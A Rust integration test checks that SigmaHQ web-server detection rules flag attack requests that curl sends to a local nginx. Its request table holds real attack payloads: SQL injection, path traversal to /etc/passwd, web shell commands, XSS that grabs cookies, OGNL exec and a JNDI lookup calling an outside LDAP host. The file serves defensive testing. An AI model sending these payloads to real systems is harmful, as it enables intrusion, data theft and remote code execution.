//! SigmaHQ's web-server rules on the access log of a real nginx that this
//! test attacks with curl: SQL injection, path traversal, web shell probes,
//! template and JNDI injection, XSS, a reGeorg tunnel, scanner user agents,
//! and benign requests in between. nginx runs on 127.0.0.1 in a temporary
//! prefix; its `combined` log is read back with vigil-weblog's reader, each
//! line becomes the HTTP event Vigil makes of it (with the line as
//! `raw_data` for keyword rules), and every imported web-server rule,
//! printed into its rule as condition text and compiled from it, is
//! evaluated on every event (and, all together, through the indexed
//! condition set, which must agree). Each attack must be found by exactly the
//! rules expected (by their SigmaHQ ids) and each benign request by none.

#[path = "../../vigil-weblog/tests/support/mod.rs"]
mod support;

use std::collections::BTreeSet;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use vigil_rules::expr;
use vigil_rules::sigma::{import, read_sources, Mapping};
use vigil_weblog::{AccessRecord, LogReader, Parser};

const F5_BASH: &str = "85254a62-22be-4239-b79c-2ec17e566c37";
const IIS_TILDE: &str = "7cb02516-6d95-4ffc-8eee-162075e111ac";
const JAVA_PAYLOAD: &str = "583aa0a2-30b1-4d62-8bf3-ab73689efe6c";
const JNDI: &str = "412d55bc-7737-4d25-9542-5b396867ce55";
const TRAVERSAL: &str = "7745c2ea-24a5-4290-b680-04359cb84b35";
const GIT: &str = "953d460b-f810-420a-97a2-cfca4c98e602";
const SQLI: &str = "5513deaf-f49a-46c2-a6c8-3f111b5cb453";
const SSTI: &str = "ada3bc4f-f0fd-42b9-ba91-e105e8af7342";
const SCANNER_UA: &str = "19aa4f58-94ca-45ff-bc34-92e533c0994a";
const WINDOWS_PATH: &str = "9f6a34b4-2688-4eb7-a7f5-e39fef573d0e";
const REGEORG: &str = "2ea44a60-cfda-11ea-87d0-0242ac130003";
const WEBSHELL: &str = "7ff9db12-1b94-4a79-ba68-a2402c5d6729";
const XSS: &str = "65354b83-a2ea-4ea6-8414-3ab38be0d409";

const FIREFOX: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

/// One request curl sends, and the rules that must find its log line.
struct Request {
    what: &'static str,
    method: &'static str,
    target: &'static str,
    user_agent: Option<&'static str>,
    expect: &'static [&'static str],
}

const fn req(
    what: &'static str,
    method: &'static str,
    target: &'static str,
    user_agent: Option<&'static str>,
    expect: &'static [&'static str],
) -> Request {
    Request {
        what,
        method,
        target,
        user_agent,
        expect,
    }
}

const REQUESTS: &[Request] = &[
    req("benign home page", "GET", "/", Some(FIREFOX), &[]),
    req(
        "SQL injection, UNION SELECT",
        "GET",
        "/products.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
        Some(FIREFOX),
        &[SQLI],
    ),
    req(
        "SQL injection, version probe",
        "GET",
        "/item?id=1%20and%201=2%20union%20select%20@@version",
        Some(FIREFOX),
        &[SQLI],
    ),
    req("benign product page", "GET", "/products.php?id=42&sort=price", Some(FIREFOX), &[]),
    req(
        "path traversal",
        "GET",
        "/static/../../../etc/passwd",
        Some("curl/8.5.0"),
        &[TRAVERSAL],
    ),
    req(
        "double-encoded path traversal",
        "GET",
        "/download?file=..%252f..%252f..%252fetc%252fpasswd",
        Some("curl/8.5.0"),
        &[TRAVERSAL],
    ),
    req(
        "web shell command",
        "GET",
        "/uploads/shell.php?cmd=whoami",
        Some("python-requests/2.31.0"),
        &[WEBSHELL],
    ),
    req(
        "web shell cmd /c",
        "GET",
        "/uploads/cmd.aspx?c=cmd%20/c%20dir",
        Some("python-requests/2.31.0"),
        &[WEBSHELL],
    ),
    req(
        "reGeorg tunnel, no user agent",
        "POST",
        "/tunnel.aspx?cmd=connect&target=10.0.0.5&port=22",
        None,
        &[REGEORG],
    ),
    req("benign search", "GET", "/search?q=union+station+tickets", Some(FIREFOX), &[]),
    req(
        "sqlmap user agent",
        "GET",
        "/products.php?id=42",
        Some("sqlmap/1.7.2#stable (https://sqlmap.org)"),
        &[SCANNER_UA],
    ),
    req(
        "Nikto user agent",
        "GET",
        "/admin/",
        Some("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000123)"),
        &[SCANNER_UA],
    ),
    req(
        "gobuster user agent",
        "GET",
        "/backup",
        Some("gobuster/3.6"),
        &[SCANNER_UA],
    ),
    req(
        "server-side template injection",
        "GET",
        "/greet?name={{7*7}}",
        Some(FIREFOX),
        &[SSTI],
    ),
    req(
        "XSS",
        "GET",
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        Some(FIREFOX),
        &[XSS],
    ),
    req(
        "JNDI exploit path",
        "GET",
        "/api/${jndi:ldap://203.0.113.5:1389/Basic/Command/Base64/aWQ=}",
        Some(FIREFOX),
        &[JNDI],
    ),
    req(
        "OGNL payload",
        "GET",
        "/index.action?x=%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%29%7D",
        Some(FIREFOX),
        &[JAVA_PAYLOAD],
    ),
    req("git repository probe", "GET", "/.git/config", Some("curl/8.5.0"), &[GIT]),
    req(
        "Windows path in a parameter",
        "GET",
        "/view?file=C:/Windows/win.ini",
        Some(FIREFOX),
        &[WINDOWS_PATH],
    ),
    req("F5 iControl bash", "POST", "/mgmt/tm/util/bash", Some("curl/8.5.0"), &[F5_BASH]),
    req(
        "IIS short-name scan",
        "GET",
        "/aspnet~1/a.aspx",
        Some("curl/8.5.0"),
        &[IIS_TILDE],
    ),
    req("benign login", "POST", "/login", Some(FIREFOX), &[]),
    req("benign stylesheet", "GET", "/static/app.css?v=3", Some(FIREFOX), &[]),
];

fn wait_for_lines(path: &Path, n: usize) {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let text = std::fs::read(path).unwrap_or_default();
        if text.iter().filter(|b| **b == b'\n').count() >= n {
            return;
        }
        assert!(
            Instant::now() < deadline,
            "{} has fewer than {n} lines",
            path.display()
        );
        std::thread::sleep(Duration::from_millis(10));
    }
}

#[test]
fn sigma_web_rules_find_real_attacks_in_nginx_logs() {
    let Some(nginx) = vigil_testkit::require_tool("nginx") else {
        return;
    };
    let Some(curl) = vigil_testkit::require_tool("curl") else {
        return;
    };
    let Some(sigma) = vigil_testkit::require_shared_data("sigma") else {
        return;
    };

    // The SigmaHQ web-server rules, through Vigil's built-in mapping.
    let sources = read_sources(&[sigma.join("rules/web/webserver_generic")]).unwrap();
    let report = import(&sources, &Mapping::builtin());
    assert!(
        report.rejected.is_empty(),
        "every web-server rule imports:\n{}",
        report.summary()
    );
    // As the rule runtime takes them: the condition printed into the rule
    // (`into_spec(expr::to_infix)`), compiled from that text; and all of
    // them in one indexed set.
    let mut set = expr::ConditionSet::new();
    let mut rules = Vec::new();
    for (i, r) in report.accepted.into_iter().enumerate() {
        set.add(i, r.expr.as_ref().expect("single-event rule"))
            .unwrap();
        let spec = r.into_spec(expr::to_infix);
        let text = spec.condition.expect("a condition");
        let condition = expr::compile_text(&text).unwrap_or_else(|e| panic!("{e}: {text}"));
        rules.push((spec.id, condition));
    }
    assert_eq!(rules.len(), sources.len());

    // A real nginx that answers every request with 200 (the SQL injection,
    // XSS and template rules skip 404s), logging in `combined`.
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().display();
    let port = support::free_port();
    let http = format!(
        "  server {{\n    listen 127.0.0.1:{port};\n    access_log {d}/access.log combined;\n\
         \x20   location / {{ return 200 \"ok\\n\"; }}\n  }}"
    );
    let server = support::start_nginx(&nginx, dir.path(), port, "ok\n", &http);

    for r in REQUESTS {
        let mut cmd = Command::new(&curl);
        cmd.args([
            "-s",
            "-o",
            "/dev/null",
            "--path-as-is",
            "-g",
            "-X",
            r.method,
        ]);
        match r.user_agent {
            Some(ua) => cmd.args(["-A", ua]),
            // An empty `User-Agent:` header line removes curl's own.
            None => cmd.args(["-H", "User-Agent:"]),
        };
        let status = cmd
            .arg(format!("http://127.0.0.1:{port}{}", r.target))
            .status()
            .unwrap();
        assert!(status.success(), "curl for {}: {status}", r.what);
    }
    let log = dir.path().join("access.log");
    wait_for_lines(&log, REQUESTS.len());
    drop(server);

    // nginx's lines through vigil-weblog, as `vigil analyze` reads them.
    let mut reader = LogReader::new(
        log.display().to_string(),
        vigil_weblog::source::open(&log).unwrap(),
        Parser::nginx_combined(),
    );
    let mut record = AccessRecord::default();
    let mut events = Vec::new();
    while reader.next_into(&mut record).unwrap() {
        let event =
            vigil_weblog::ocsf::to_event(&record, Some("access.log"), Some(reader.last_line()));
        events.push((
            String::from_utf8_lossy(reader.last_line()).into_owned(),
            event,
        ));
    }
    assert_eq!(reader.stats().bad, 0);
    assert_eq!(events.len(), REQUESTS.len(), "one log line per request");

    let mut found_any = BTreeSet::new();
    let mut from_set = Vec::new();
    for (r, (line, event)) in REQUESTS.iter().zip(&events) {
        let matched: BTreeSet<&str> = rules
            .iter()
            .filter(|(_, c)| c.matches(event))
            .map(|(id, _)| id.as_str())
            .collect();
        let expected: BTreeSet<&str> = r.expect.iter().copied().collect();
        assert_eq!(matched, expected, "{}: {line}", r.what);
        // The indexed set finds the same rules.
        from_set.clear();
        set.matches(event, &mut from_set);
        let indexed: BTreeSet<&str> = from_set
            .iter()
            .filter_map(|&i| rules.get(i).map(|(id, _)| id.as_str()))
            .collect();
        assert_eq!(indexed, matched, "{}: {line}", r.what);
        found_any.extend(matched);
    }
    // The attacks exercise every web-server rule.
    assert_eq!(found_any.len(), rules.len());
}
